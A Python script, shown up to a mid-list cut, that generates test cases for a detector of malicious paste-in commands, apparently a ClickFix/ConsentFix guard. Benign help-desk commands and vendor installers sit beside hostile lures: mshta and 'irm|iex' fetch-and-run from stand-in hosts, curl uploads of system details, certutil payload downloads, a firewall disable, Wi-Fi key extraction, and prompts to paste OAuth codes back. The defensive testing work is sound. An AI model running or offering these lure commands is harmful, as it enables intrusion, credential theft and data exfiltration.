"""Writes tests/data/cases/design16.jsonl: the texts the product flagged BY DESIGN on pages that
are not the tool's own, weighed against every lure set (2026-12-07, helper "design16"), written
here from general knowledge of such pages (no blind set, lure collection or other detector's
fixtures read), each clearing beside the lures that try to abuse it.

    python tests/data/cases/make_design16.py

Deterministic. Real vendors' documentation hosts stand for the pages real commands come from;
invented hosts are reserved names (*.test, *.example, *.invalid, documentation addresses).
Each line is {id, text, expect, technique, platform, source, target}.

Cleared here, by technique:

- `run-box-shows-this-computer`: `cmd /k` kept open on Windows' own commands that only show
  this computer's settings (ipconfig /all, systeminfo, whoami, hostname, ver, getmac,
  driverquery, a certificate store listed), look up one name, check whether one computer
  answers (ping, tracert, pathping) or refresh it from its own sources (gpupdate, ipconfig
  /flushdns), one to four of them: IT wikis and help-desk mails give them for the Run box so
  that people read the answer out; and the read-outs around them: `cmd /c … & pause`, a search
  for a word (`| findstr IPv4`), a report to a .txt or .log file here, WMI's serial number and
  model (`wmic bios get serialnumber`), the Wi-Fi adapter (`netsh wlan show interfaces`), the
  computer's name and account (`echo %COMPUTERNAME%`, `set`), PowerShell kept open on one cmdlet
  that shows the network or the disks. From any source (runbox.Shape.SHOW). Still commands:
  the queries fake support staff read out as "proof" (netstat, tasklist, arp, route, ipconfig
  /displaydns, Get-Process, Get-Service, dir /s, tree), anything that fetches, starts, changes,
  sends or writes elsewhere (a pipe into clip, curl or cmd, a report to a share or a script
  file, a second program, WMI's call/node/format, a Wi-Fi password, a DNS server or record type
  given to nslookup, a DNS answer searched for its name), `cmd /c` with nothing keeping its
  window, five commands or more, a copy of cmd outside System32.
- `run-box-page-tool`: Disk Cleanup's list of what to clean (/sageset:n, /d drive) and Outlook's
  start-up modes on a mail profile by name (/safe, /nopreview, /profile name), from any page
  (runbox.yaml `pages`). /sagerun, /altvba, /a, /f, /c and the view resets stay typed-only.
- `sign-in-guide-example`: a loopback sign-in redirect, code and all, copied alone from a
  sign-in service's own developer guide (trust.yaml `sign_in_docs`) and pasted into a
  terminal, an editor or where the guard does not know: the guide's example of the flow, not
  anyone's sign-in. The same address from any other page (a look-alike host, a forum under the
  same name, plain HTTP, a page that only borrows the name), with no page, with words asking
  for it back, or into the console or the Run box stays ConsentFix's.
- `vendor-docs-download`: certutil -urlcache, bitsadmin /transfer and Start-BitsTransfer of
  Microsoft's own tools (Sysinternals) quoted in Microsoft's documentation: Microsoft documents
  download.sysinternals.com as its own (trust.yaml `publishers`). From any other page the same
  line keeps its weight, and an address of anyone else is never vouched for.

Also written, as quiet regressions of what was already cleared: installers of the trust list
quoted by another project's README, a Q&A answer or a blog; vendors' read-only admin lines;
OAuth documentation that is not a redirect with a code. Those still flagged by design are in
LEFT (with why), not in the file.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("design16.jsonl")
TERMINAL = "terminal"
RUN = "run_dialog"
BAR = "explorer_bar"
CONSOLE = "browser_console"
UNKNOWN = "unknown"
OTHER = "other"

# -- (b) the Run box: commands that only show this computer ---------------------------------------

WIKIS = [
    "https://intranet.harrowfield.example/it/kb/network-details",
    "https://wiki.quillmere.example/helpdesk/before-you-call",
    "https://support.brindlecorp.example/kb/0042-vpn-troubleshooting",
    "https://helpdesk.tarnwick.example/articles/find-your-ip",
]
MAIL = "outlook"
CHAT = "teams"
SHOWN = [
    "cmd /k ipconfig /all",
    "cmd.exe /k ipconfig /all",
    "CMD /K IPCONFIG /ALL",
    "cmd /k systeminfo",
    "cmd /k systeminfo /fo list",
    "cmd /k systeminfo /fo csv /nh",
    "cmd /k whoami",
    "cmd /k whoami /all",
    "cmd /k whoami /upn",
    "cmd /k whoami /groups /fo list",
    "cmd /k hostname",
    "cmd /k ver",
    "cmd /k getmac",
    "cmd /k getmac /v /fo list",
    "cmd /k driverquery",
    "cmd /k driverquery /v",
    "cmd /k driverquery /fo table",
    "cmd /k driverquery /v /fo csv",
    "cmd /k certutil -store My",
    "cmd /k certutil -user -store My",
    "cmd /k certutil -store Root",
    "cmd /k hostname & whoami",
    "cmd /k hostname && whoami /upn && ver",
    "cmd /k ipconfig /all & hostname",
    "cmd /k ipconfig /all & ping -n 4 fs01.harrowfield.example",
    "cmd /k ipconfig /all & nslookup mail.harrowfield.example",
    "cmd /k ipconfig /all & nslookup vpn.quillmere.example & tracert -d 10.20.0.1",
    "cmd /k nslookup intranet",
    "cmd /k ping -t 192.0.2.10",
    "cmd /k ping -n 10 gw01.brindlecorp.example",
    "cmd /k tracert -d 198.51.100.1",
    "cmd /k pathping -n fs02",
    "cmd /k ipconfig /flushdns & ipconfig /all",
    "cmd /k ipconfig /flushdns && nslookup intranet.harrowfield.example",
    "cmd /k gpupdate /force & gpresult /r",
    "cmd /k gpupdate /force && whoami /groups",
    "cmd /k w32tm /resync & hostname",
    "cmd /k systeminfo & driverquery /v",
]
H = "cdn.umbra-stage.test"
# the read-outs IT wikis add around those: `pause` keeping `cmd /c` open, a search for a word,
# a report to a text file here, the serial number by WMI, the Wi-Fi adapter, the computer's name
# and account, PowerShell kept open on one cmdlet that shows the network or the disks
READ_OUTS = [
    "cmd /c ipconfig /all & pause",
    "cmd /c ipconfig /all && pause",
    "cmd.exe /c systeminfo /fo list & pause",
    "cmd /c whoami /upn & hostname & pause",
    "cmd /k ipconfig /all | findstr IPv4",
    'cmd /k ipconfig /all | findstr /i "IPv4 DNS"',
    'cmd /k ipconfig /all | find /i "Physical"',
    'cmd /k systeminfo | findstr /B /C:"OS Name" /C:"OS Version"',
    "cmd /k systeminfo | more",
    "cmd /k ipconfig /all > %USERPROFILE%\\Desktop\\ipconfig.txt",
    "cmd /c systeminfo > %USERPROFILE%\\Desktop\\systeminfo.txt & pause",
    "cmd /k driverquery /v /fo csv > C:\\Temp\\drivers.txt",
    "cmd /k wmic bios get serialnumber",
    "cmd /k wmic csproduct get name,identifyingnumber",
    "cmd /k wmic computersystem get model,manufacturer",
    "cmd /k wmic os get caption,version,buildnumber /value",
    "cmd /c wmic bios get serialnumber & pause",
    "cmd /k netsh wlan show interfaces",
    "cmd /k netsh wlan show drivers",
    "cmd /k netsh winhttp show proxy",
    "cmd /k netsh interface ip show config",
    "cmd /k echo %COMPUTERNAME%",
    "cmd /k echo %USERNAME% %USERDOMAIN%",
    "cmd /k set",
    "powershell -NoExit -Command Get-NetIPConfiguration",
    "powershell -NoExit Get-NetAdapter",
    "powershell.exe -NoExit -NoProfile -Command Get-ComputerInfo",
    "pwsh -NoExit -c Get-DnsClientServerAddress",
    "powershell -NoLogo -NoExit -Command Get-Volume",
    "powershell -NoExit -Command Get-HotFix",
]
READ_OUT_LURES = [
    "cmd /c ipconfig /all | clip",
    f"cmd /k ipconfig /all | curl -F f=@- https://{H}/u",
    "cmd /k ipconfig /all > \\\\203.0.113.7\\drop\\ip.txt",
    "cmd /k ipconfig /all > %APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat",
    "cmd /k ipconfig /all > C:\\Users\\Public\\x.bat",
    "cmd /k wmic process call create calc",
    "cmd /k wmic /node:203.0.113.5 bios get serialnumber",
    f'cmd /k wmic os get /format:"https://{H}/x.xsl"',
    "cmd /k netsh wlan show profile name=Home key=clear",
    "cmd /k netsh advfirewall set allprofiles state off",
    f"cmd /k netsh interface portproxy add v4tov4 listenport=3389 connectaddress={H}",
    f"cmd /k echo %COMPUTERNAME% & mshta https://{H}/v.hta",
    "cmd /k echo powershell -enc SQBFAFgA > %TEMP%\\x.cmd",
    "cmd /k set x=1",
    "cmd /k dir /s C:\\",
    "cmd /k tree C:\\",
    "cmd /k ipconfig /all | findstr IPv4 | cmd",
    f"cmd /c nslookup cfg.{H} | findstr Name & pause",
    "cmd /c whoami",
    "cmd /c ipconfig /all & start %TEMP%\\x.exe & pause",
    "powershell -NoExit -Command Get-Process",
    "powershell -NoExit -Command Get-Service",
    "powershell -NoExit -Command Get-Credential",
    f"powershell -NoExit -Command Get-NetIPConfiguration; iex (irm https://{H}/a)",
    "powershell -w h -Command Get-NetAdapter",
    "powershell -NoExit -EncodedCommand RwBlAHQALQBOAGUAdABBAGQAYQBwAHQAZQByAA==",
    "powershell -ep bypass -NoExit -Command Get-Volume",
]
PAGE_TOOLS = [
    "cleanmgr /sageset:1",
    "cleanmgr /sageset:42",
    "cleanmgr.exe /sageset:7",
    "cleanmgr /d C: /sageset:11",
    "CleanMgr /d D /sageset:3",
    "outlook.exe /safe /profile Contoso",
    "outlook /profile Harrowfield",
    "outlook /profile Support /safe",
    "outlook.exe /nopreview /profile Finance",
    "outlook /safe:1 /profile Work",
    "outlook /safe /nopreview /profile Sales",
    "Outlook.exe /profiles",
]
# a fake support page, a fake check page, a stranger's mail: the same shapes made to do harm, or
# the queries fake support staff read out as "proof". Blocked from a page, warned typed or mailed.
LURE_PAGES = [
    "https://windows-defender-alert.helpdesk-center.test/scan",
    "https://verify-human.umbra-stage.test/captcha/step2",
    "https://microsoft-support.case-4471.example/fix",
]
SHOWN_LURES = [
    "cmd /k netstat -ano",
    "cmd /k netstat -an",
    "cmd /k tasklist /v",
    "cmd /k tasklist /svc",
    "cmd /k arp -a",
    "cmd /k route print",
    "cmd /k ipconfig /displaydns",
    "cmd /k ipconfig /release",
    "cmd /k ipconfig /all & netstat -ano",
    "cmd /k hostname & tasklist",
    f"cmd /k ipconfig /all & mshta https://{H}/v.hta",
    f"cmd /k systeminfo & powershell -w h -c iwr https://{H}/a | iex",
    f"cmd /k whoami /all | curl -F f=@- https://{H}/u",
    "cmd /k systeminfo > \\\\203.0.113.7\\drop\\report.txt",
    "cmd /k ipconfig /all > %TEMP%\\x.txt & start %TEMP%\\x.txt",
    f"cmd /k ipconfig /all & nslookup -q=txt cfg.{H} 203.0.113.53",
    f"cmd /k nslookup cfg.{H} 203.0.113.53",
    f"cmd /k nslookup -type=TXT cfg.{H}",
    "cmd /k hostname & whoami & ver & getmac & systeminfo",
    "cmd /k ipconfig /all & %TEMP%\\fix.exe",
    f"cmd /k ipconfig /all & rundll32 \\\\{H}@SSL\\dav\\x.dll,Start",
    f"cmd /k ipconfig /all & curl -o %TEMP%\\a.exe https://{H}/a.exe",
    f"cmd /k ipconfig /all ^& mshta https://{H}/v.hta",
    "cmd /k certutil -addstore Root \\\\203.0.113.4\\pub\\ca.crt",
    f"cmd /k certutil -urlcache -split -f https://{H}/a.txt %TEMP%\\a.exe",
    "cmd /k certutil -decode %TEMP%\\a.txt %TEMP%\\a.exe",
    "%TEMP%\\cmd.exe /k ipconfig /all",
    "C:\\Users\\Public\\cmd.exe /k systeminfo",
    "cmd /k ipconfig /all & shutdown /r /t 0",
    "cmd /k ping -n 1 203.0.113.9 -n 2",
    f"cmd /k ipconfig /all & start https://{H}/support.exe",
    "cmd /k whoami & powershell -nop -enc SQBFAFgA",
]
TOOL_LURES = [
    "cleanmgr /sagerun:1",
    "cleanmgr /d C: /sagerun:7",
    "cleanmgr /verylowdisk",
    "cleanmgr /autoclean /d C",
    "cleanmgr /sageset:1 /setup",
    "cleanmgr /sageset:1 & calc",
    "outlook /profile Contoso /altvba C:\\Users\\Public\\VbaProject.otm",
    "outlook.exe /safe /a \\\\203.0.113.5\\s\\invoice.pdf.lnk",
    f"outlook /c ipm.note /a %TEMP%\\x.exe /profile {H}",
    "outlook /profile \\\\203.0.113.5\\p",
    "outlook /profile Work /resetfolders /cleanviews /f C:\\Users\\Public\\x.msg",
]


def run_box_shows(book: Book) -> None:
    tech = "run-box-shows-this-computer"
    sources: list[str | None] = [
        *WIKIS,
        MAIL,
        None,
        CHAT,
        "https://support.microsoft.com/en-us/windows/",
    ]
    for i, text in enumerate(SHOWN):
        book.add(tech, text, "not_flagged", "windows", RUN, sources[i % len(sources)])
        book.add(tech, text, "not_flagged", "windows", RUN, sources[(i + 3) % len(sources)])
        if i % 3 == 0:
            book.add(tech, text, "not_flagged", "windows", BAR, WIKIS[i % len(WIKIS)])
    for i, text in enumerate(SHOWN_LURES):
        book.add(tech, text, "malicious", "windows", RUN, LURE_PAGES[i % len(LURE_PAGES)])
        # typed, a console on a query is the user's own (Shape.QUERY); mailed, a command
        book.add(tech, text, "flagged", "windows", (RUN, BAR)[i % 2], MAIL)
    for i, text in enumerate(READ_OUTS):
        book.add(tech, text, "not_flagged", "windows", RUN, sources[(i + 1) % len(sources)])
        book.add(
            tech, text, "not_flagged", "windows", (RUN, BAR)[i % 2], sources[(i + 4) % len(sources)]
        )
    for i, text in enumerate(READ_OUT_LURES):
        book.add(tech, text, "malicious", "windows", RUN, LURE_PAGES[i % len(LURE_PAGES)])
        book.add(tech, text, "flagged", "windows", (RUN, BAR)[i % 2], MAIL)
    tech = "run-box-page-tool"
    for i, text in enumerate(PAGE_TOOLS):
        book.add(tech, text, "not_flagged", "windows", RUN, sources[i % len(sources)])
        book.add(tech, text, "not_flagged", "windows", RUN, sources[(i + 5) % len(sources)])
    for i, text in enumerate(TOOL_LURES):
        book.add(tech, text, "malicious", "windows", RUN, LURE_PAGES[i % len(LURE_PAGES)])
        book.add(tech, text, "flagged", "windows", RUN, (MAIL, CHAT)[i % 2])


# -- (e) sign-in guides' example redirects ---------------------------------------------------------

# (a sign-in service's own guide, the example redirect it shows)
GUIDES = [
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "http://127.0.0.1:9004/?code=4/0AfJohXn3Q8vZ2pLmWq7Rt5sYb1NcD4eFg6HiJk&scope=email%20profile",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "http://localhost:8085/?state=security_token%3D4d3c2b1a&code=4/0AVHEtk5xQz9mN2bR7&scope=openid",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/web-server",
        "http://localhost:8080/oauth2callback?code=4/0AY0e-g7Xy3KqLmN8pRt2vWz&scope=https://www.googleapis.com/auth/drive.metadata.readonly",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "http://localhost/myapp/?code=0.AXkA8lRWZrN2kUq3Tg7ZxH1bVcM9pQ2yR5sT8uW&state=12345",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/reply-url",
        "http://127.0.0.1:3000/auth/callback?code=1.ASsA4kQp9Zm7xW2vB5nC8dE1fG3hJ&state=67890&session_state=fe1540c3",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
        "http://localhost:8400/?code=0.AXEA9f8e7d6c5b4a3Z2y1X0wVuTsRqP&client_info=eyJ1aWQiOiJleGFtcGxlIn0&state=aBcDeF",
    ),
    (
        "https://learn.microsoft.com/en-us/azure/active-directory-b2c/authorization-code-flow",
        "https://jwt.ms/#code=eyJraWQiOiJjcGltY29yZV8wOTI1MjAxNSIsInZlciI6IjEuMC&state=arbitrary_data",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps",
        "http://localhost:3000/auth/github/callback?code=5e3b1f2a9c8d7e6f4a1b&state=af0ifjsldkj",
    ),
    (
        "https://docs.github.com/en/apps/creating-github-apps/authenticating-with-a-github-app/generating-a-user-access-token-for-a-github-app",
        "http://127.0.0.1:8712/callback?code=8f1c2d3e4b5a69788796&state=q9",
    ),
    (
        "https://docs.gitlab.com/ee/api/oauth2.html",
        "http://localhost:4000/oauth/redirect?code=1f2e3d4c5b6a79880a1b2c3d4e5f60718293a4b5&state=YOUR_UNIQUE_STATE_HASH",
    ),
    (
        "https://developer.okta.com/docs/guides/implement-grant-type/authcodepkce/main/",
        "http://localhost:8080/authorization-code/callback?code=P5I7mdxxdv13_JfXrCSq&state=state-296bc9a0",
    ),
    (
        "https://auth0.com/docs/get-started/authentication-and-authorization-flow/authorization-code-flow-with-pkce",
        "http://127.0.0.1:4200/callback?code=AUTHORIZATION_CODE_8xLOxBtZp8&state=xyzABC123",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc8252",
        "http://127.0.0.1:51004/oauth2redirect/example-provider?code=SplxlOBeZQQYbYS6WxSbIA&state=xyz",
    ),
    (
        "https://www.rfc-editor.org/rfc/rfc8252",
        "http://[::1]:61023/oauth2redirect/example-provider?code=SplxlOBeZQQYbYS6WxSbIA",
    ),
    (
        "https://www.oauth.com/oauth2-servers/redirect-uris/redirect-uris-native-apps/",
        "http://127.0.0.1:49152/callback?code=g0ZGZmNjVmOWIjNTk2NTk4ZTYyZGI3&state=Zm9v",
    ),
    (
        "https://developer.atlassian.com/cloud/jira/platform/oauth-2-3lo-apps/",
        "http://localhost:8080/callback?state=YOUR_USER_BOUND_VALUE&code=eyJhbGciOiJIUzI1NiJ9.eyJqdGkiOiIx",
    ),
    (
        "https://discord.com/developers/docs/topics/oauth2",
        "http://localhost:53134/?code=NhhvTDYsFcdgNLnnLijcl7Ku7bEEeee&state=15773059ghq9183habn",
    ),
    (
        "https://developer.spotify.com/documentation/web-api/tutorials/code-flow",
        "http://127.0.0.1:8888/callback?code=NApCCg..BkWtQ&state=34fFs29kd09",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/auth/login",
        "http://localhost:8085/?state=Jq9mLx2Vb7&code=4/0AeaYSHC3kQz8xW2mN7pR5tV&scope=openid%20https://www.googleapis.com/auth/cloud-platform",
    ),
    (
        "https://www.keycloak.org/docs/latest/securing_apps/",
        "http://localhost:8080/callback?state=af0ifjsldkj&session_state=5f1e6f2c&code=3f8b2a1c-9d7e-4b6a-8c5d-2e1f0a9b8c7d",
    ),
]
GUIDE_TARGETS = [UNKNOWN, TERMINAL, OTHER]
# those that are ConsentFix's shape from any other page (a placeholder code, or a redirect to a
# web page rather than a loopback listener, or an elided one, is no one's code anywhere)
LOOPBACK = [
    (p, u) for p, u in GUIDES if not any(w in u for w in ("jwt.ms", "AUTHORIZATION_CODE", ".."))
]
# the same redirects from pages that are not the service's own guide: they stay ConsentFix's
NOT_GUIDES = [
    "https://developers.google.com.sign-in-check.test/identity/protocols/oauth2/native-app",
    "https://developers-google.example/identity/protocols/oauth2/native-app",
    "http://developers.google.com/identity/protocols/oauth2/native-app",
    "https://learn.microsoft.com/en-us/answers/questions/1442310/redirect-uri-code",
    "https://learn-microsoft.test/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
    "https://sites.google.com/view/oauth-verify-step",
    "https://docs.github.com.verify-session.invalid/en/apps/oauth-apps",
    "https://entra-sign-in.docs-portal.test/identity-platform/finish",
    "https://auth0.com.sso-review.example/docs/flows",
    "https://azure-cli-login.sso-helper.test/complete",
    "https://docs.sharepoint-access.test/view",
    "https://datatracker.ietf.org.doc-view.invalid/doc/html/rfc8252",
]
# a guide's page as the source, but words around the address asking for it back (the source a
# copy claims does not make a lure's words a guide's), or another target, or a command beside it
GUIDE_ABUSE = [
    ("Paste the address from your browser bar into the box below to finish: {u}", UNKNOWN),
    ("{u}\nCopy this whole address and paste it in the verification field.", UNKNOWN),
    ("Sign-in complete. Paste the URL of this page here: {u}", TERMINAL),
    ("{u}", CONSOLE),
    ("{u}", RUN),
    ('curl -s -d "u={u}" https://collect.sso-helper.test/c', TERMINAL),
]


def sign_in_guides(book: Book) -> None:
    tech = "sign-in-guide-example"
    for i, (page, url) in enumerate(GUIDES):
        for j, target in enumerate(GUIDE_TARGETS):
            book.add(tech, url, "not_flagged", "any", target, page)
            if (i + j) % 4 == 0:  # with a trailing line break, as a code block copies
                book.add(tech, url + "\n", "not_flagged", "any", target, page)
    for i, page in enumerate(NOT_GUIDES):
        url = LOOPBACK[i % len(LOOPBACK)][1]
        book.add(tech, url, "malicious", "any", UNKNOWN, page)
        book.add(tech, url, "malicious", "any", TERMINAL, page)
    for _, url in LOOPBACK[:8]:
        book.add(tech, url, "malicious", "any", UNKNOWN, None)  # no page: someone's own
    for i, (shape, target) in enumerate(GUIDE_ABUSE):
        for page, url in LOOPBACK[i % 3 :: 7]:
            book.add(tech, shape.format(u=url), "malicious", "any", target, page)


# -- (c) Microsoft's own tools downloaded as Microsoft's documentation shows ------------------------

MS_DOCS = [
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
    "https://learn.microsoft.com/en-us/windows/win32/bits/bitsadmin-tool",
    "https://learn.microsoft.com/en-us/sysinternals/downloads/procmon",
    "https://learn.microsoft.com/en-us/powershell/module/bitstransfer/start-bitstransfer",
]
SYSINTERNALS = ["PSTools", "Autoruns", "ProcessMonitor", "ProcessExplorer", "TCPView", "Sysmon"]
VENDOR_DOWNLOADS = [
    "certutil -urlcache -split -f https://download.sysinternals.com/files/{z}.zip {z}.zip",
    "certutil.exe -urlcache -f https://download.sysinternals.com/files/{z}.zip C:\\Temp\\{z}.zip",
    "bitsadmin /transfer {z}Job /download /priority normal https://download.sysinternals.com/files/{z}.zip C:\\Temp\\{z}.zip",
    "Start-BitsTransfer -Source https://download.sysinternals.com/files/{z}.zip -Destination $env:TEMP\\{z}.zip",
    "Invoke-WebRequest -Uri https://download.sysinternals.com/files/{z}.zip -OutFile C:\\Tools\\{z}.zip",
]
# the same download lines from a page that is not Microsoft's, or fetching from anyone else
VENDOR_LOOKALIKES = [
    ("https://www.fix-your-pc.test/speedup", "certutil -urlcache -split -f https://download.sysinternals.com/files/PSTools.zip PSTools.zip"),
    ("https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil", "certutil -urlcache -split -f https://download.sysinternals.com.tools-cdn.test/files/PSTools.zip %TEMP%\\p.exe"),
    ("https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil", "certutil -urlcache -split -f https://203.0.113.5/files/PSTools.zip %TEMP%\\p.exe"),
    ("https://learn.microsoft.com/en-us/windows/win32/bits/bitsadmin-tool", "bitsadmin /transfer j /download https://sysinternals-download.test/Autoruns.exe %TEMP%\\a.exe"),
    ("https://sysinternals-tools.example/download", "bitsadmin /transfer j /download /priority normal https://download.sysinternals.com/files/Autoruns.zip %TEMP%\\Autoruns.zip"),
    ("https://learn.microsoft.com.docs-mirror.invalid/en-us/sysinternals/", "certutil -urlcache -split -f https://download.sysinternals.com/files/PSTools.zip PSTools.zip"),
]  # fmt: skip


def vendor_docs(book: Book) -> None:
    tech = "vendor-docs-download"
    for i, shape in enumerate(VENDOR_DOWNLOADS):
        for j, name in enumerate(SYSINTERNALS):
            page = MS_DOCS[(i + j) % len(MS_DOCS)]
            book.add(
                tech,
                shape.format(z=name),
                "not_flagged",
                "windows",
                (TERMINAL, UNKNOWN)[j % 2],
                page,
            )
    for page, text in VENDOR_LOOKALIKES:
        book.add(tech, text, "flagged", "windows", TERMINAL, page)


# -- quiet regressions: installers of the trust list quoted by other pages ------------------------

QUOTED = [
    ("https://stackoverflow.com/questions/71339403/how-to-install-rust-on-ubuntu", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y"),
    ("https://dev.to/harrowfield/setting-up-a-rust-dev-box-2f1a", "curl https://sh.rustup.rs -sSf | sh -s -- -y --default-toolchain stable"),
    ("https://github.com/quillmere/data-notebooks#setup", "curl -LsSf https://astral.sh/uv/install.sh | env UV_NO_MODIFY_PATH=1 sh"),
    ("https://github.com/quillmere/data-notebooks#setup", 'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/0.5.4/install.ps1 | iex"'),
    ("https://medium.com/@harrowfield/python-tooling-in-2026-4c1e", "wget -qO- https://astral.sh/uv/install.sh | sh -s -- --no-modify-path"),
    ("https://github.com/harrowfield/edge-worker#requirements", 'curl -fsSL https://bun.sh/install | bash -s "bun-v1.1.38"'),
    ("https://askubuntu.com/questions/1502744/install-nvm", "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash"),
    ("https://github.com/quillmere/frontend#prerequisites", "wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash"),
    ("https://superuser.com/questions/1780012/homebrew-on-a-new-mac", 'NONINTERACTIVE=1 /bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)" && brew doctor'),
    ("https://github.com/harrowfield/macos-bootstrap", '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"\nbrew bundle --file=./Brewfile'),
    ("https://github.com/harrowfield/win-tools#install", "iwr -useb get.scoop.sh | iex"),
    ("https://github.com/quillmere/deno-api#run", "curl -fsSL https://deno.land/install.sh | sh"),
    ("https://github.com/quillmere/deno-api#run", "iwr https://deno.land/install.ps1 -useb | iex"),
    ("https://www.reddit.com/r/rust/comments/1g2x3y/getting_started/", "curl https://sh.rustup.rs -sSf | sh"),
    ("https://github.com/harrowfield/pnpm-workspace#setup", "curl -fsSL https://get.pnpm.io/install.sh | sh -"),
    ("https://github.com/quillmere/zsh-setup", 'sh -c "$(wget https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh -O -)"'),
    ("https://stackoverflow.com/questions/78021113/install-poetry", "curl -sSL https://install.python-poetry.org | python3 - --version 1.8.4"),
    ("https://github.com/harrowfield/llm-local#ollama", "curl -fsSL https://ollama.com/install.sh | OLLAMA_VERSION=0.5.7 sh"),
    ("https://github.com/harrowfield/homelab#tailscale", "curl -fsSL https://tailscale.com/install.sh | sh && sudo tailscale up"),
    ("https://github.com/quillmere/java-svc#toolchain", 'curl -s "https://get.sdkman.io" | bash'),
    ("https://stackoverflow.com/questions/69804611/install-deno-windows", "irm https://deno.land/install.ps1 | iex; deno --version"),
    ("https://dev.to/quillmere/bun-vs-node-2026-1b7c", 'powershell -c "irm bun.sh/install.ps1 | iex"'),
    ("https://github.com/harrowfield/rust-cli#building", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- --profile minimal -y"),
    ("https://superuser.com/questions/1801133/scoop-behind-proxy", "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser\nirm get.scoop.sh | iex"),
    ("https://github.com/quillmere/ml-pipeline#environment", "curl -LsSf https://astral.sh/uv/0.5.4/install.sh | sh"),
    ("https://news.ycombinator.com/item?id=41000001", "curl -LsSf https://astral.sh/uv/install.sh | sh\nuv python install 3.13"),
    ("https://github.com/harrowfield/infra-k3s#single-node", 'curl -sfL https://get.k3s.io | INSTALL_K3S_EXEC="--disable traefik" sh -'),
    ("https://www.digitalocean.com/community/tutorials/how-to-install-docker", "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh get-docker.sh"),
]  # fmt: skip


def quoted_installers(book: Book) -> None:
    for i, (page, text) in enumerate(QUOTED):
        book.add("other-page-trusted-installer", text, "not_flagged", "any", TERMINAL, page)
        if i % 2 == 0:
            book.add("other-page-trusted-installer", text, "not_flagged", "any", UNKNOWN, page)


# Microsoft's and vendors' read-only lines around downloads: checking a file, listing jobs and
# certificates (quiet already; kept so that a narrower reading of the download tools never
# flags them)
READ_ONLY_ADMIN = [
    (MS_DOCS[0], "certutil -hashfile C:\\Users\\sam\\Downloads\\PSTools.zip SHA256"),
    (MS_DOCS[0], "certutil -hashfile %USERPROFILE%\\Downloads\\Win11_24H2_English_x64.iso SHA256"),
    (MS_DOCS[0], "certutil -store -user My"),
    (MS_DOCS[0], "certutil -verify -urlfetch C:\\Temp\\server.cer"),
    (MS_DOCS[0], "certutil -dump C:\\Temp\\server.cer"),
    (MS_DOCS[1], "bitsadmin /list /allusers /verbose"),
    (MS_DOCS[1], "bitsadmin /info myDownloadJob /verbose"),
    (MS_DOCS[1], "bitsadmin /reset"),
    (MS_DOCS[3], "Get-BitsTransfer -AllUsers | Format-List"),
    (MS_DOCS[3], "Get-FileHash -Path C:\\Temp\\Autoruns.zip -Algorithm SHA256"),
    ("https://learn.microsoft.com/en-us/windows/security/threat-protection/", "Get-AuthenticodeSignature C:\\Tools\\Autoruns64.exe | Format-List"),
    ("https://learn.microsoft.com/en-us/sysinternals/downloads/sigcheck", "sigcheck64.exe -accepteula -h C:\\Tools\\Procmon64.exe"),
    ("https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/ipconfig", "ipconfig /all | findstr /i \"IPv4 DNS\""),
    ("https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/driverquery", "driverquery /v /fo csv > C:\\Temp\\drivers.csv"),
    ("https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/systeminfo", "systeminfo /fo list | findstr /B /C:\"OS Name\" /C:\"OS Version\""),
]  # fmt: skip
# OAuth documentation that is not a redirect with a code: the request, the registration, the
# token exchange written with placeholders (quiet already)
OAUTH_DOCS = [
    ("https://developers.google.com/identity/protocols/oauth2/native-app", "https://accounts.google.com/o/oauth2/v2/auth?client_id=YOUR_CLIENT_ID&redirect_uri=http://127.0.0.1:9004&response_type=code&scope=openid%20email&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256"),
    ("https://learn.microsoft.com/en-us/entra/identity-platform/reply-url", "http://localhost:3000/auth/callback"),
    ("https://learn.microsoft.com/en-us/entra/identity-platform/reply-url", "http://127.0.0.1/redirect"),
    ("https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps", "POST https://github.com/login/oauth/access_token?client_id=Iv1.8a61f9b3a7aba766&client_secret=YOUR_SECRET&code=CODE&redirect_uri=http://localhost:3000/callback"),
    ("https://developer.okta.com/docs/guides/implement-grant-type/authcodepkce/main/", "http://localhost:8080/authorization-code/callback"),
    ("https://auth0.com/docs/get-started/applications/application-settings", "Allowed Callback URLs: http://localhost:3000/callback, https://app.example.com/callback"),
    ("https://datatracker.ietf.org/doc/html/rfc8252", "http://127.0.0.1:{port}/oauth2redirect/example-provider"),
